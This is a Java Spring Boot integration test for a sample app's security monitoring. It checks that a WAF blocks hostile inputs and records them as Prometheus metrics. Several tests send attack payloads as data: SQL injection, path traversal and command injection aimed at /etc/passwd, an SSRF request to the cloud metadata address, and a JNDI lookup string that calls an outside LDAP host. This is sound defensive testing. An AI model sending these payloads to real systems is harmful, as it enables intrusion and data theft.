package dev.aisd.observability.sample.security;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import dev.aisd.observability.test.Exposition;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The sample's security behaviours, from real requests to the metrics Prometheus scrapes.
 * Every test speaks for its own client address (sent as X-Forwarded-For, which the
 * sample trusts from the loopback proxy), so blocks and rate limits do not leak between
 * tests.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT,
		properties = { "sample.security.rate-limit-capacity=10", "sample.security.rate-limit-refill-per-second=1",
				"sample.security.operator-password=scorecard-operator" })
class SampleSecurityTests {

	private static final String BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0 Safari/537.36";

	private static final AtomicInteger NEXT_CLIENT = new AtomicInteger(1);

	private final HttpClient http = HttpClient.newHttpClient();

	@LocalServerPort
	private int port;

	@Autowired
	private PrometheusMeterRegistry registry;

	@Test
	void searchWhenSqlInjectionThenForbiddenAndWafRuleAndAttackRecorded() throws Exception {
		String client = newClient();
		String before = metrics();
		HttpResponse<String> blocked = get("/api/search?q=" + encode("' OR 1=1 --"), client, BROWSER);
		assertThat(blocked.statusCode()).isEqualTo(403);
		assertThat(blocked.body()).contains("query blocked").doesNotContain("OR 1=1");
		String after = metrics();
		assertIncreased(before, after, 1, "security_waf_rules_triggered_total", "rule_id", "sqli-tautology",
				"severity", "high");
		assertIncreased(before, after, 1, "security_attacks_blocked_total", "attack_type", "sql_injection",
				"severity", "high");
		assertThat(Exposition.parse(after).has("security_attack_score_distribution_bucket", "attack_type",
				"sql_injection")).isTrue();
		assertIncreased(before, after, 1, "security_risk_score_distribution_count", "risk_category", "search_query");
		assertIncreased(before, after, 0.92, "security_risk_score_distribution_sum", "risk_category", "search_query");
	}

	@Test
	void parametersWhenPathTraversalThenForbiddenAndIntrusionRecorded() throws Exception {
		String before = metrics();
		HttpResponse<String> blocked = get("/api/items?file=" + encode("../../../../etc/passwd"), newClient(), BROWSER);
		assertThat(blocked.statusCode()).isEqualTo(403);
		assertThat(blocked.body()).contains("request blocked").doesNotContain("passwd");
		String after = metrics();
		assertIncreased(before, after, 1, "security_intrusion_attempts_total", "attack_vector", "path_traversal",
				"severity", "high");
		assertIncreased(before, after, 1, "security_waf_rules_triggered_total", "rule_id", "lfi-path-traversal",
				"severity", "high");
		assertIncreased(before, after, 1, "security_attacks_blocked_total", "attack_type", "path_traversal");
		assertIncreased(before, after, 1, "security_risk_score_distribution_count", "risk_category",
				"request_parameter");
	}

	@Test
	void parametersWhenCommandInjectionOrSsrfOrJndiThenForbiddenWithTheirVectors() throws Exception {
		String before = metrics();
		String client = newClient();
		assertThat(get("/api/search?q=" + encode("; cat /etc/passwd"), client, BROWSER).statusCode()).isEqualTo(403);
		assertThat(get("/api/items/export?callback=" + encode("http://169.254.169.254/latest/meta-data/"), client,
				BROWSER)
			.statusCode()).isEqualTo(403);
		assertThat(get("/api/search?q=" + encode("${jndi:ldap://203.0.113.66/a}"), client, BROWSER).statusCode())
			.isEqualTo(403);
		String after = metrics();
		assertIncreased(before, after, 1, "security_intrusion_attempts_total", "attack_vector", "command_injection",
				"severity", "critical");
		assertIncreased(before, after, 1, "security_intrusion_attempts_total", "attack_vector", "ssrf", "severity",
				"high");
		assertIncreased(before, after, 1, "security_intrusion_attempts_total", "attack_vector", "jndi_injection",
				"severity", "critical");
		assertIncreased(before, after, 0, "security_attacks_blocked_total", "attack_type", "sql_injection");
	}

	@Test
	void parametersWhenOrdinaryThenNoIntrusionNorViolation() throws Exception {
		String before = metrics();
		assertThat(get("/api/search?q=" + encode("rope & compass"), newClient(), BROWSER).statusCode()).isEqualTo(200);
		String after = metrics();
		assertIncreased(before, after, 0, "security_intrusion_attempts_total");
		assertIncreased(before, after, 0, "security_compliance_violations_total");
	}

	@Test
	void parametersWhenCardNumberThenBadRequestAndPciDssViolation() throws Exception {
		String before = metrics();
		HttpResponse<String> refused = get("/api/search?q=" + encode("4111 1111 1111 1111"), newClient(), BROWSER);
		assertThat(refused.statusCode()).isEqualTo(400);
		assertThat(refused.body()).doesNotContain("4111");
		assertIncreased(before, metrics(), 1, "security_compliance_violations_total", "policy_type", "PCI-DSS",
				"severity", "high");
	}

	@Test
	void parametersWhenEmailAddressThenBadRequestAndGdprViolation() throws Exception {
		String before = metrics();
		assertThat(get("/api/search?q=" + encode("jane.doe@example.com"), newClient(), BROWSER).statusCode())
			.isEqualTo(400);
		assertIncreased(before, metrics(), 1, "security_compliance_violations_total", "policy_type", "GDPR",
				"severity", "medium");
	}

	@Test
	void exportWhenWithinLimitThenRows() throws Exception {
		String before = metrics();
		HttpResponse<String> export = get("/api/items/export?limit=2", newClient(), BROWSER);
		assertThat(export.statusCode()).isEqualTo(200);
		assertThat(export.body()).contains("\"items\":[\"lantern\",\"rope\"]");
		assertIncreased(before, metrics(), 0, "security_data_exfiltration_attempts_total");
	}

	@Test
	void exportWhenTooManyRowsThenForbiddenAndExfiltrationRecorded() throws Exception {
		String before = metrics();
		assertThat(get("/api/items/export?limit=100000", newClient(), BROWSER).statusCode()).isEqualTo(403);
		assertThat(get("/api/items/export?limit=0", newClient(), BROWSER).statusCode()).isEqualTo(400);
		assertThat(get("/api/items/export?limit=lots", newClient(), BROWSER).statusCode()).isEqualTo(400);
		assertIncreased(before, metrics(), 1, "security_data_exfiltration_attempts_total", "detection_method",
				"bulk_export");
	}

	@Test
	void itemLookupsWhenOneClientWalksThroughIdsThenExfiltrationAndErrorBurst() throws Exception {
		String client = newClient();
		String before = metrics();
		for (int id = 100; id < 120; id++) {
			// Mostly 404, and past the rate limit of this context 429: both count.
			assertThat(get("/api/items/" + id, client, BROWSER).statusCode()).isIn(404, 429);
		}
		String after = metrics();
		assertIncreased(before, after, 1, "security_data_exfiltration_attempts_total", "detection_method",
				"id_enumeration");
		assertIncreased(before, after, 1, "security_anomalies_detected_total", "anomaly_type", "error_burst",
				"confidence", "high");
		assertIncreased(before, after, 1, "security_anomaly_score_distribution_count", "detector_type",
				"error_rate");
	}

	@Test
	void requestsWhenOneClientFloodsThenRequestBurstAnomaly() throws Exception {
		String client = newClient();
		String before = metrics();
		for (int i = 0; i < 30; i++) {
			get("/api/items", client, BROWSER);
		}
		String after = metrics();
		assertIncreased(before, after, 1, "security_anomalies_detected_total", "anomaly_type", "request_burst");
		assertIncreased(before, after, 1, "security_anomaly_score_distribution_count", "detector_type",
				"request_rate");
		assertThat(Exposition.parse(after).value("security_anomaly_score_distribution_sum", "detector_type",
				"request_rate"))
			.isPositive();
	}

	@Test
	void captchaWhenFlaggedBotSolvesThenSuccessAndFalsePositive() throws Exception {
		String client = newClient();
		String before = metrics();
		String[] challenge = challenge(client, "curl/8.5.0");
		HttpResponse<String> verified = verify(client, challenge[0], challenge[1]);
		assertThat(verified.statusCode()).isEqualTo(200);
		assertThat(verified.body()).contains("\"verified\":true");
		String after = metrics();
		assertIncreased(before, after, 1, "security_captcha_successes_total", "captcha_type", "arithmetic");
		assertIncreased(before, after, 1, "security_false_positives_total", "detection_type", "bot");
		assertIncreased(before, after, 0, "security_true_positives_total", "detection_type", "bot");
		assertThat(verify(client, challenge[0], challenge[1]).statusCode()).as("single use").isEqualTo(400);
	}

	@Test
	void captchaWhenFlaggedBotFailsThenFailureAndTruePositive() throws Exception {
		String client = newClient();
		String before = metrics();
		String[] challenge = challenge(client, "python-requests/2.32.3");
		assertThat(verify(client, challenge[0], challenge[1] + "1").statusCode()).isEqualTo(403);
		String after = metrics();
		assertIncreased(before, after, 1, "security_captcha_failures_total", "captcha_type", "arithmetic",
				"failure_reason", "wrong_answer");
		assertIncreased(before, after, 1, "security_true_positives_total", "detection_type", "bot");
		assertIncreased(before, after, 0, "security_false_positives_total", "detection_type", "bot");
	}

	@Test
	void captchaWhenBrowserOrForgedTokenThenResultWithoutVerdict() throws Exception {
		String client = newClient();
		String before = metrics();
		String[] challenge = challenge(client, BROWSER);
		assertThat(verify(client, challenge[0], challenge[1]).statusCode()).isEqualTo(200);
		assertThat(verify(client, "forged-token", "7").statusCode()).isEqualTo(400);
		assertThat(post("/api/captcha/verify", client, "application/json", "{}").statusCode()).isEqualTo(400);
		assertThat(post("/api/captcha/verify", client, "application/json", "not json").statusCode()).isEqualTo(400);
		String after = metrics();
		assertIncreased(before, after, 1, "security_captcha_successes_total", "captcha_type", "arithmetic");
		assertIncreased(before, after, 2, "security_captcha_failures_total", "captcha_type", "arithmetic",
				"failure_reason", "invalid_token");
		assertIncreased(before, after, 0, "security_true_positives_total", "detection_type", "bot");
		assertIncreased(before, after, 0, "security_false_positives_total", "detection_type", "bot");
	}

	@Test
	void searchWhenOrdinaryQueryThenResults() throws Exception {
		HttpResponse<String> response = get("/api/search?q=" + encode("rope"), newClient(), BROWSER);
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.body()).contains("\"rope\"");
	}

	@Test
	void searchWhenQueryTooLongThenBadRequest() throws Exception {
		assertThat(get("/api/search?q=" + "a".repeat(300), newClient(), BROWSER).statusCode()).isEqualTo(400);
	}

	@Test
	void honeypotWhenHitThenRecordedAndClientBlocked() throws Exception {
		String client = newClient();
		String before = metrics();
		assertThat(get("/wp-admin", client, BROWSER).statusCode()).isEqualTo(404);
		String after = metrics();
		assertIncreased(before, after, 1, "security_honeypot_hits_total", "honeypot_type", "wordpress_admin",
				"ip_reputation", "unknown");
		assertIncreased(before, after, 1, "security_ip_blocks_total", "block_reason", "honeypot", "duration", "5m");
		assertThat(Exposition.parse(after).value("security_blocked_ips_current", "block_reason", "honeypot"))
			.isGreaterThanOrEqualTo(1);
		assertThat(get("/api/items", client, BROWSER).statusCode()).isEqualTo(403);
		assertThat(get("/api/items", newClient(), BROWSER).statusCode()).as("other clients").isEqualTo(200);
		assertThat(get("/metrics", client, BROWSER).statusCode()).as("operations stay reachable")
			.isNotEqualTo(403);
	}

	@Test
	void honeypotWhenLoopbackClientThenRecordedAsTrustedAndNeverBlocked() throws Exception {
		String before = metrics();
		HttpRequest honeypot = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + this.port + "/.git/config"))
			.header("User-Agent", BROWSER)
			.build();
		assertThat(this.http.send(honeypot, HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(404);
		assertIncreased(before, metrics(), 1, "security_honeypot_hits_total", "honeypot_type", "git_repository",
				"ip_reputation", "trusted");
		HttpRequest items = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + this.port + "/api/items"))
			.header("User-Agent", BROWSER)
			.build();
		for (int i = 0; i < 15; i++) {
			assertThat(this.http.send(items, HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(200);
		}
	}

	@Test
	void honeypotWhenEnvFileThenEnvFileType() throws Exception {
		String before = metrics();
		assertThat(get("/.env", newClient(), BROWSER).statusCode()).isEqualTo(404);
		assertIncreased(before, metrics(), 1, "security_honeypot_hits_total", "honeypot_type", "env_file");
	}

	@Test
	void rateLimitWhenBurstFromOneClientThenTooManyRequestsAndViolationsRecorded() throws Exception {
		String client = newClient();
		String before = metrics();
		int limited = 0;
		for (int i = 0; i < 40; i++) {
			HttpResponse<String> response = get("/api/items", client, BROWSER);
			if (response.statusCode() == 429) {
				limited++;
				assertThat(response.headers().firstValue("Retry-After")).hasValue("1");
			}
		}
		assertThat(limited).isGreaterThanOrEqualTo(10);
		assertIncreased(before, metrics(), limited, "security_rate_limit_violations_total", "endpoint", "/api/items",
				"limit_type", "per_client");
	}

	@Test
	void botWhenScriptedUserAgentThenThreatDetected() throws Exception {
		String before = metrics();
		assertThat(get("/api/items", newClient(), "python-requests/2.32.3").statusCode()).isEqualTo(200);
		assertThat(get("/api/items", newClient(), "curl/8.5.0").statusCode()).isEqualTo(200);
		assertIncreased(before, metrics(), 2, "security_threats_detected_total", "threat_type", "bot", "source",
				"user_agent");
	}

	@Test
	void loginWhenWrongPasswordThenFailureRecordedBySpringSecurityIntegration() throws Exception {
		String client = newClient();
		String before = metrics();
		assertThat(post("/api/login", client, "application/json", "{\"username\":\"demo\",\"password\":\"nope\"}")
			.statusCode()).isEqualTo(401);
		assertThat(post("/api/login", client, "application/x-www-form-urlencoded", "username=ghost&password=x")
			.statusCode()).isEqualTo(401);
		assertThat(getWithAuth("/api/account", client, basic("demo", "wrong")).statusCode()).isEqualTo(401);
		String after = metrics();
		assertIncreased(before, after, 1, "security_auth_failures_total", "auth_method", "password",
				"failure_reason", "bad_credentials");
		assertIncreased(before, after, 1, "security_auth_failures_total", "auth_method", "form", "failure_reason",
				"bad_credentials");
		assertIncreased(before, after, 1, "security_auth_failures_total", "auth_method", "basic", "failure_reason",
				"bad_credentials");
	}

	@Test
	void loginWhenRightPasswordThenAuthenticated() throws Exception {
		String client = newClient();
		HttpResponse<String> login = post("/api/login", client, "application/json",
				"{\"username\":\"demo\",\"password\":\"demo-password\"}");
		assertThat(login.statusCode()).isEqualTo(200);
		assertThat(login.body()).contains("\"authenticated\":true").doesNotContain("demo-password");
		HttpResponse<String> account = getWithAuth("/api/account", client, basic("demo", "demo-password"));
		assertThat(account.statusCode()).isEqualTo(200);
		assertThat(account.body()).contains("\"user\":\"demo\"");
	}

	@Test
	void adminWhenUserLacksRoleThenDeniedAndRecordedByRoute() throws Exception {
		String before = metrics();
		assertThat(getWithAuth("/api/admin/report", newClient(), basic("demo", "demo-password")).statusCode())
			.isEqualTo(403);
		assertIncreased(before, metrics(), 1, "security_authz_denials_total", "resource", "/api/admin/report",
				"action", "GET");
	}

	@Test
	void firewallWhenSemicolonInPathThenRejectedAndRecorded() throws Exception {
		String before = metrics();
		assertThat(get("/api/items;jsessionid=0AF3", newClient(), BROWSER).statusCode()).isEqualTo(400);
		assertIncreased(before, metrics(), 1, "security_suspicious_patterns_total", "pattern_type",
				"firewall_semicolon");
	}

	@Test
	void endpointsWhenAnonymousThenOpenAndNoLoginPage() throws Exception {
		String client = newClient();
		assertThat(get("/api/items", client, BROWSER).statusCode()).isEqualTo(200);
		assertThat(get("/api/items/2", client, BROWSER).statusCode()).isEqualTo(200);
		assertThat(get("/login", client, BROWSER).statusCode()).isNotEqualTo(200);
		HttpResponse<String> account = get("/api/account", client, BROWSER);
		assertThat(account.statusCode()).isEqualTo(401);
		assertThat(account.headers().firstValue("WWW-Authenticate")).hasValueSatisfying(
				(value) -> assertThat(value).startsWith("Basic"));
	}

	@Test
	void scorecardWhenAnonymousThenUnauthorizedAndWhenOperatorThenServed() throws Exception {
		String client = newClient();
		assertThat(get("/observability/security/scorecard", client, BROWSER).statusCode()).isEqualTo(401);
		assertThat(getWithAuth("/observability/security/scorecard", client, basic("operator", "scorecard-operator"))
			.statusCode()).isEqualTo(200);
		assertThat(getWithAuth("/observability/security/scorecard", client, basic("demo", "demo-password"))
			.statusCode()).isEqualTo(403);
	}

	@Test
	void postureWhenStartedThenGaugesPublished() {
		String text = metrics();
		assertThat(Exposition.parse(text).value("security_compliance_score_current", "compliance_standard", "GDPR"))
			.isEqualTo(92.5);
		assertThat(Exposition.parse(text).value("security_compliance_score_current", "compliance_standard", "PCI-DSS"))
			.isEqualTo(95.0);
		assertThat(Exposition.parse(text).value("security_vulnerability_count_current", "severity", "high"))
			.isEqualTo(2.0);
		assertThat(Exposition.parse(text).value("security_response_readiness_score")).isEqualTo(88.0);
		assertThat(Exposition.parse(text).has("security_threat_level_current")).isTrue();
		assertThat(Exposition.parse(text).has("security_policy_version_info", "policy_type", "waf", "version",
				SecurityPosture.WAF_POLICY_VERSION))
			.isTrue();
		assertThat(Exposition.parse(text).value("security_true_positive_rate_percent", "detection_type",
				"sql_injection"))
			.isEqualTo(97.5);
		assertThat(Exposition.parse(text).value("security_mean_time_to_detect_seconds", "incident_type",
				"credential_stuffing"))
			.isEqualTo(45.0);
	}

	/** Ask for a CAPTCHA: its token and the right answer. */
	private String[] challenge(String client, String userAgent) throws Exception {
		HttpResponse<String> response = this.http.send(request("/api/captcha/challenge", client)
			.header("User-Agent", userAgent)
			.POST(HttpRequest.BodyPublishers.noBody())
			.build(), HttpResponse.BodyHandlers.ofString());
		assertThat(response.statusCode()).isEqualTo(200);
		Matcher token = Pattern.compile("\"token\":\"([0-9a-f-]{36})\"").matcher(response.body());
		Matcher question = Pattern.compile("What is (\\d) \\+ (\\d)\\?").matcher(response.body());
		assertThat(token.find()).isTrue();
		assertThat(question.find()).isTrue();
		int answer = Integer.parseInt(question.group(1)) + Integer.parseInt(question.group(2));
		return new String[] { token.group(1), Integer.toString(answer) };
	}

	private HttpResponse<String> verify(String client, String token, String answer) throws Exception {
		return post("/api/captcha/verify", client, "application/json",
				"{\"token\":\"" + token + "\",\"answer\":\"" + answer + "\"}");
	}

	private static void assertIncreased(String before, String after, double by, String name, String... labels) {
		assertThat(Exposition.parse(after).value(name, labels) - Exposition.parse(before).value(name, labels))
			.as("increase of %s%s", name, java.util.Arrays.toString(labels))
			.isEqualTo(by);
	}

	/**
	 * The exposition text Prometheus scrapes: {@code GET /metrics} when the starter serves
	 * it, otherwise the same registry's text directly.
	 */
	private String metrics() {
		try {
			HttpResponse<String> response = this.http.send(
					HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + this.port + "/metrics")).build(),
					HttpResponse.BodyHandlers.ofString());
			if (response.statusCode() == 200 && response.body().contains("# TYPE")) {
				return response.body();
			}
		}
		catch (IOException ex) {
			// Fall back to the registry below.
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
		}
		return this.registry.scrape();
	}

	private static String newClient() {
		return "192.0.2." + NEXT_CLIENT.getAndIncrement();
	}

	private static String encode(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}

	private static String basic(String user, String password) {
		return "Basic " + Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
	}

	private HttpResponse<String> get(String pathAndQuery, String client, String userAgent)
			throws IOException, InterruptedException {
		return this.http.send(request(pathAndQuery, client).header("User-Agent", userAgent).GET().build(),
				HttpResponse.BodyHandlers.ofString());
	}

	private HttpResponse<String> getWithAuth(String path, String client, String authorization)
			throws IOException, InterruptedException {
		return this.http.send(
				request(path, client).header("User-Agent", BROWSER).header("Authorization", authorization).GET().build(),
				HttpResponse.BodyHandlers.ofString());
	}

	private HttpResponse<String> post(String path, String client, String contentType, String body)
			throws IOException, InterruptedException {
		return this.http.send(request(path, client).header("User-Agent", BROWSER)
			.header("Content-Type", contentType)
			.POST(HttpRequest.BodyPublishers.ofString(body))
			.build(), HttpResponse.BodyHandlers.ofString());
	}

	private HttpRequest.Builder request(String pathAndQuery, String client) {
		return HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + this.port + pathAndQuery))
			.header("X-Forwarded-For", client);
	}

}
